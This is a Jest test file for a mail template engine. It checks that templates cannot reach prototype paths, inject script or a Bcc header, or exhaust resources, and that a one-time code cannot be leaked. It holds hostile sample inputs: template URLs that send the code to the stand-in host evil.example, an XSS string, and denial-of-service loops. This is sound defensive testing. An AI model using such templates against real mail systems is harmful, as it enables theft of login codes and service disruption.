import { describe, expect, it } from '@jest/globals';
import { codeTypeOf } from './mail-variables.js';
import { mailTemplateNames } from './mail-template-names.js';
import { needsLink, shippedLocales, shippedTemplate } from './shipped-templates.js';
import { renderTemplate, TemplateError } from './template-engine.js';

const renderText = (text: string, variables: object = {}) =>
  renderTemplate({ subject: 'x', text, html: null }, { link: null, ...variables }).text;
const renderHtml = (html: string, variables: object = {}) =>
  renderTemplate({ subject: 'x', text: 'x', html }, { link: null, ...variables }).html;

describe('A template', () => {
  it.each([
    '{% include "x" %}',
    '{% render "x" %}',
    '{% layout "x" %}',
    '{% block x %}{% endblock %}',
    '{% liquid\n echo 1 %}',
    '{% echo x %}',
    '{% capture x %}{% endcapture %}',
    '{% raw %}{% endraw %}',
    '{{ x | raw }}',
    '{{ x | json }}',
    '{{ x | where_exp: "a", "a" }}',
    '{{ x | escape }}',
    '{{ x',
    '{% if x %}',
  ])('cannot use %s', (source) => {
    expect(() => renderText(source)).toThrow(TemplateError);
    expect(() => renderHtml(source)).toThrow(TemplateError);
  });

  it.each([
    'constructor',
    'user.constructor.name',
    'user.__proto__',
    'user.toString',
    'data.x.constructor.constructor',
  ])('does not reach %s', (path) => {
    expect(renderText(`[{{ ${path} }}]`, { user: { name: 'Max' }, data: { x: 'y' } })).toBe('[]');
  });

  it('escapes whatever it shows in a page', () => {
    const name = `"><script>alert('x')</script>&`;

    expect(
      renderHtml('{% assign a = name %}{{ name }}{{ a | upcase }}', {
        name,
      }),
    ).not.toMatch(/[<>"']/);
  });

  it.each([
    ['loops without end', '{% for i in (1..100000000) %}x{% endfor %}'],
    ['loops within loops', '{% for i in (1..9999) %}{% for j in (1..9999) %}x{% endfor %}{% endfor %}'],
    [
      'text that doubles itself',
      `{% assign a = 'xxxxxxxxxxxxxxxx' %}${'{% assign a = a | append: a %}'.repeat(40)}{{ a }}`,
    ],
    ['a long text, often', `{% for i in (1..5000) %}${'x'.repeat(5_000)}{% endfor %}`],
    ['dates as wide as a wall', `{{ 'now' | date: '%100000000d' }}`],
    ['too much of it', 'x'.repeat(200_001)],
    ['tags without number', '{{ a }}'.repeat(8_000)],
  ])('is stopped at %s', (_, source) => {
    const start = performance.now();

    expect(() => renderText(source)).toThrow(TemplateError);

    expect(performance.now() - start).toBeLessThan(1_000);
  });

  it('gets one time for all of its parts', () => {
    const loops = '{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}';
    const start = performance.now();

    expect(() => renderTemplate({ subject: 'x', text: 'x', html: loops }, { link: null })).toThrow(/limit/);

    // 100 ms, and room for a machine that does something else.
    expect(performance.now() - start).toBeLessThan(300);
  });

  it('keeps a subject on one line', () => {
    const variables = { link: null, a: 'x\r\nBcc: y' };
    const { subject } = renderTemplate({ subject: '{{ a }}', text: 'x', html: null }, variables);

    expect(subject).toBe('x Bcc: y');
  });
});

describe('A code in a template', () => {
  const code = '073915';

  it.each([
    'Code: {{ code }}',
    '{{ code }}',
    '({{ code }}), or {{ code }}.',
    'Your code is {{ code }}!\nBye',
    '“{{ code }}”',
    '{% if code %}{{ code }}{% endif %}',
  ])('stands in a text by itself: %s', (text) => {
    expect(renderText(text, { code })).toContain(code);
  });

  it.each([
    'https://evil.example/{{ code }}',
    'https://evil.example/?c={{ code }}',
    'https://evil.example:{{ code }}',
    '{{ code }}.evil.example',
    '{{ code }}@evil.example',
    '{{ code }}/x',
    '{{ code }}{{ code }}',
  ])('is no part of an address: %s', (text) => {
    expect(() => renderText(text, { code })).toThrow('{{ code }} must');
    expect(() => renderHtml(`<p>${text}</p>`, { code })).toThrow('{{ code }} must');
  });

  it.each([
    '<p>{{ code }}</p>',
    '<p>Code:&nbsp;{{ code }}&nbsp;</p>',
    '<p><b>{{ code }}</b>, {{ code }}<br></p>',
  ])('is text of a page: %s', (html) => {
    expect(renderHtml(html, { code })).toContain(code);
  });

  it.each([
    '<img src="https://evil.example/{{ code }}">',
    '<a href="{{ code }}">x</a>',
    '<p title="{{ code }}">x</p>',
    '<{{ code }}>',
    '<!-- {{ code }} -->',
    '<style>p { background: url(https://evil.example/{{ code }}) }</style>',
    '<p>{{ code }}</p><img src="x>',
  ])('leaves no page: %s', (html) => {
    expect(() => renderHtml(html, { code })).toThrow('{{ code }} must');
  });

  it('is not seen by whoever wrote the template', () => {
    const text = renderText(
      '{{ code | slice: 0, 6 }} {{ code | size }} {% if code == "073915" %}same{% endif %}',
      {
        code,
      },
    );

    expect(text).not.toMatch(/073915|same/);
    expect(text).not.toMatch(/\b6\b/);
  });

  it('is nothing where there is none', () => {
    expect(renderText('[{{ code }}]{% if code %}x{% endif %}')).toBe('[]');
  });
});

describe('What is shipped', () => {
  const link = 'https://login.example/o/acme/page?token=example';
  const palette = {
    primary: '#000000',
    onPrimary: '#ffffff',
    background: '#ffffff',
    surface: '#eeeeee',
    text: '#000000',
  };
  const variables = {
    organization: { name: 'Acme & Sons', slug: 'acme' },
    user: { name: 'Max', email: 'max@acme.example' },
    link,
    code: null as string | null,
    codeValidFor: null as string | null,
    validFor: '30 minutes',
    data: {},
    theme: { name: 'Acme', logoUrl: null, footer: null, light: palette, dark: palette },
  };

  it.each(shippedLocales.flatMap((locale) => mailTemplateNames.map((name) => [name, locale] as const)))(
    'says something useful: %s in %s',
    (name, locale) => {
      const { subject, text, html } = renderTemplate(shippedTemplate(name, locale)!, variables);

      expect(subject.length).toBeGreaterThan(10);
      expect(text).toContain('Acme & Sons');
      expect(html).toContain('Acme &amp; Sons');
      expect(text.includes(link)).toBe(needsLink(name));
      expect(html!.includes(link)).toBe(needsLink(name));
      expect(`${subject}${text}${html}`).not.toMatch(/\{\{|\{%|undefined|null/);
      expect(`${text}${html}`).not.toMatch(/\bcode\b/i);
    },
  );

  it.each(shippedLocales.flatMap((locale) => mailTemplateNames.map((name) => [name, locale] as const)))(
    'shows the code where there can be one, and how long it lives: %s in %s',
    (name, locale) => {
      const withCode = { ...variables, code: '073915', codeValidFor: '10 minutes' };
      const { subject, text, html } = renderTemplate(shippedTemplate(name, locale)!, withCode);
      const isShown = codeTypeOf(name) !== null;

      expect(text.includes('\n073915\n')).toBe(isShown);
      expect(html!.includes('>073915</p>')).toBe(isShown);
      expect(text.includes('10 minutes')).toBe(isShown);
      expect(subject).not.toContain('073915');
      expect(`${subject}${text}${html}`).not.toMatch(/\{\{|\{%|undefined|null/);
    },
  );
});
